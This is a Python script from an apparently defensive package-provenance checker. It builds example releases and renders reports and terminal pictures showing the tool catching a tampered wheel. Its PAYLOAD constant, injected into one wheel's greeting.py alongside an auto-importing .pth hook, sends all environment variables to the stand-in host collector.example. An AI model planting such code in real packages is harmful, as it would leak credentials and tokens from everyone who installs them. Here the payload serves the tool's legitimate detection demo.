"""The example packages in, what the command says of them out: reports/examples and the pictures of the documents.

`python -m corpus examples` makes them anew. One of the thirty releases is tampered with, two cannot be told.
"""

from __future__ import annotations

import io
import re
import tempfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

from rich._export_format import CONSOLE_SVG_FORMAT
from rich.console import Console
from rich.text import Text

from corpus.command import ROOT, hermetic, run
from corpus.crowd import make_crowd, served
from corpus.example import FLIT, HATCHLING, MISLINKED, MONOREPO, UNTAGGED, Project, Release, make_release
from corpus.git_host import GitHost
from corpus.package_index import PackageIndex
from corpus.tamper import append, rewrite_wheel
from provenance.report.text_format import wrapped

COLUMNS = 100
CROWD = 25
PAYLOAD = b"""

import os
import urllib.request

urllib.request.urlopen("https://collector.example/", data=repr(dict(os.environ)).encode())
"""
FORMATS = {"text": "answer.txt", "sarif": "answer.sarif", "html": "answer.html"}
SVG = re.sub(r"@font-face \{\{.*?\}\}\n", "", CONSOLE_SVG_FORMAT, flags=re.DOTALL).replace(
    "Fira Code", "ui-monospace, Menlo, Consolas"
)  # rich's own names a font on a host that readers would have to ask

Make = Callable[[Project], Release]


def examples() -> bool:
    """Make the example packages and everything that is shown of them, into this checkout."""
    with tempfile.TemporaryDirectory(prefix="provenance-examples-") as temporary:
        folder = Path(temporary)
        with GitHost(folder / "git") as host:
            write_examples(lambda project: make_release(project, folder), host, folder, ROOT)
    return True


def write_examples(make: Make, host: GitHost, folder: Path, root: Path) -> None:
    """Write the files below `root`; `host` serves the repositories below `folder`, where releases are made."""
    clean = make(FLIT)
    others = [make(project) for project in (HATCHLING, MONOREPO, UNTAGGED, MISLINKED)]
    crowd = make_crowd(CROWD, folder)
    edits = {f"{FLIT.package}/greeting.py": append(PAYLOAD), "plume_hook.pth": append(b"import plume\n")}
    tampered = rewrite_wheel(clean.wheel, folder / "tampered", edits)
    environment = hermetic(folder, host.write_gitconfig(folder / "gitconfig")) | {"PROVENANCE_DATA": "data"}
    reports, pictures = root / "reports/examples", root / "docs/pictures"
    for place in (reports, pictures):
        place.mkdir(parents=True, exist_ok=True)
    asked = [clean, *others, *crowd]
    (folder / "requirements.txt").write_text("".join(f"{each.reference}\n" for each in asked))
    (reports / "requirements.txt").write_bytes((folder / "requirements.txt").read_bytes())
    with PackageIndex(clean.artifacts) as index:
        answer = said(["check", FLIT.reference], environment, index, folder)
        draw(pictures / "match.svg", f"provenance check {FLIT.reference}", answer)
    with PackageIndex([clean.sdist, tampered, *served([*others, *crowd])]) as index:
        answer = said(["check", FLIT.reference], environment, index, folder)
        draw(pictures / "mismatch.svg", f"provenance check {FLIT.reference}", answer)
        command = ["check", "-r", "requirements.txt"]
        for name, file in FORMATS.items():
            answer = said([*command, "--format", name], environment, index, folder)
            (reports / file).write_text(answer, encoding="utf-8")
    draw(pictures / "many.svg", "provenance check -r requirements.txt", (reports / "answer.txt").read_text())


def said(arguments: Sequence[str], environment: Mapping[str, str], index: PackageIndex, folder: Path) -> str:
    """What the command prints, asking this index as pip's configuration would."""
    return run(*arguments, environment={**environment, "PIP_INDEX_URL": index.simple}, folder=folder).stdout


def draw(path: Path, command: str, output: str) -> None:
    """Write a picture of a terminal with the command and its output, broken as the command breaks it there."""
    console = Console(record=True, width=COLUMNS, file=io.StringIO(), color_system=None)
    console.print(Text(f"$ {command}", style="bold"))
    for line in output.splitlines():
        for row in wrapped(line, COLUMNS):
            console.print(Text(row))
    svg = console.export_svg(title="provenance", code_format=SVG, unique_id=path.stem)
    path.write_text(svg, encoding="utf-8")
